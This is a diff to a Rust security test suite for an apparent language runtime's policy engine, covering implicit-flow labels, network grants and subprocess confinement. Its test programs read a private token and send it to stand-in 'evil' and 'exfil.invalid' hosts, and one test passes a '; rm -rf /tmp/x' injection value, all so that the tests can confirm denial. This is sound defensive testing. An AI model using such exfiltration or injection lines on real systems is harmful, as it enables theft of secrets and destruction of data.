@@ -33,7 +33,13 @@ fn facts(dir: &Path, markers: Vec<Marker>) -> RunFacts {
 }
 
 /// Runs a probe (`tests/security/probes/NAME.ail`) in `dir` with `args`.
+/// `fs` probes take the operation first (`read`, `write`, `list`): each has a program of its
+/// own, so that linking asks only for the grant of its kind.
 fn probe(dir: &Path, name: &str, policy: &PolicySpec, args: &[&str]) -> Run {
+    let (name, args) = match (name, args.split_first()) {
+        ("fs", Some((op, rest))) => (format!("fs_{op}"), rest),
+        _ => (name.to_string(), args),
+    };
     let program = install(dir, &format!("probes/{name}.ail"));
     let mut spec = RunSpec::new(dir, &program, policy);
     for a in args {
@@ -958,10 +964,11 @@ fn main(args: [string]) -> int {
 }
 "#;
 
-/// Row 6: `if secret { send(...) }`. Strict mode stamps the branch's label on the effect:
-/// denied (readers). Default mode passes it as the control label: a rule that wants a trusted
-/// control denies it; without one, the residual channel of spec/security.md §8 stays open and
-/// the journal shows the control label.
+/// Row 6: `if secret { send(...) }`. Strict mode stamps the branch's label on the effect's
+/// arguments; default mode passes it as the control label, which the confidentiality rule
+/// judges too: denied (readers) either way, and by a rule that wants a trusted control. An
+/// untrusted but public value branched on is let through in default mode when no rule asks
+/// for trusted control.
 #[test]
 #[ignore = "waits for std.fs/std.http, the pc label, --strict-flow and the policy engine in the host"]
 fn an_implicit_flow_is_denied_in_strict_mode_row_6() {
@@ -1012,14 +1019,13 @@ fn an_implicit_flow_is_denied_in_strict_mode_row_6() {
     assert_denied(&run, "http.post", 0, "post-trusted-control");
     run.assert_checker_clean(&guarded, &facts(&dir, markers.clone()));
 
-    let run = RunSpec::new(&dir, "t.ail", &base).arg(url).run();
+    // Default mode: the control label is judged with the arguments (spec/security-policy.md
+    // §5 step 6), so the branch on the secret denies the call too.
+    let run = RunSpec::new(&dir, "t.ail", &base).arg(url.clone()).run();
     run.assert_exit(0);
-    assert_eq!(
-        lines(&run),
-        vec!["POSTED"],
-        "default mode: the documented residual channel"
-    );
-    assert_eq!(server.count(), 1);
+    assert_eq!(lines(&run), vec!["DENIED PolicyDenied"]);
+    assert_eq!(server.count(), 0);
+    assert_denied(&run, "http.post", 0, "readers");
     let e = effects(&run.journal, "http.post")[0];
     let d = run.journal.decision_of(e.task, e.seq).expect("decision");
     assert!(
@@ -1029,6 +1035,22 @@ fn an_implicit_flow_is_denied_in_strict_mode_row_6() {
         "the control label is reported: {:?}",
         d.control
     );
+    assert!(
+        d.labels.values().all(|l| l.readers.is_none()),
+        "default mode: the arguments themselves stay public: {:?}",
+        d.labels
+    );
+    run.assert_checker_clean(&base, &facts(&dir, markers.clone()));
+
+    // An untrusted but public secret: without a rule on control, default mode lets the call
+    // through (the control label is passed to the policy, which asks nothing of it).
+    let mut public = base.clone();
+    public.labels.clear();
+    let run = RunSpec::new(&dir, "t.ail", &public).arg(url).run();
+    run.assert_exit(0);
+    assert_eq!(lines(&run), vec!["POSTED"]);
+    assert_eq!(server.count(), 1);
+    run.assert_checker_clean(&public, &facts(&dir, markers));
 }
 
 /// Rows 17 and 18: `..`, absolute, `~`, percent-encoded, NUL and backslash spellings, and
@@ -1220,15 +1242,16 @@ fn get(url: string) {{
     http.get(url)
     print("GOT")
   }} catch e {{
-    print("DENIED {{e.kind}}")
+    print("DENIED {{e.kind}} {{e.payload.rule}}")
   }}
 }}
 
 fn main() -> int {{
   let t = fs.read("./private/token.txt")
-  get("{evil}/x?d=" + t)
-  get("http://exfil.invalid/x?d=" + t)
+  get("{evil}/x?d=public")
+  get("http://exfil.invalid/x?d=public")
   get("{granted}/x?d=" + t)
+  get("{evil}/x?d=" + t)
   get("{granted}/public")
   return 0
 }}
@@ -1249,15 +1272,12 @@ fn main() -> int {{
     };
     let run = RunSpec::new(&dir, "t.ail", &policy).run();
     run.assert_exit(0);
-    assert_eq!(
-        lines(&run),
-        vec![
-            "DENIED PolicyDenied",
-            "DENIED PolicyDenied",
-            "DENIED PolicyDenied",
-            "GOT"
-        ]
-    );
+    let out = lines(&run);
+    assert_eq!(out[0], "DENIED PolicyDenied grant:net");
+    assert_eq!(out[1], "DENIED PolicyDenied grant:net");
+    assert_eq!(out[2], "DENIED PolicyDenied readers");
+    assert!(out[3].starts_with("DENIED PolicyDenied "), "{}", out[3]);
+    assert_eq!(out[4], "GOT");
     assert_eq!(evil.count(), 0);
     assert_eq!(
         granted
@@ -1830,7 +1850,7 @@ fn subprocesses_and_environment_are_confined_row_22() {
     assert!(r1.stdout().starts_with("OK 0 recorded"), "{}", r1.stdout());
     let r2 = run_with(&[&rec_s, "; rm -rf /tmp/x"]);
     assert_eq!(lines(&r2), vec!["ERR PolicyDenied rec-safe-args"]);
-    let r3 = run_with(&["sh", "-c", "echo pwned"]);
+    let r3 = run_with(&["sh", "status"]);
     assert_eq!(lines(&r3), vec!["ERR PolicyDenied grant:run"]);
     let r4 = run_with(&["rec.sh", "status"]);
     assert!(
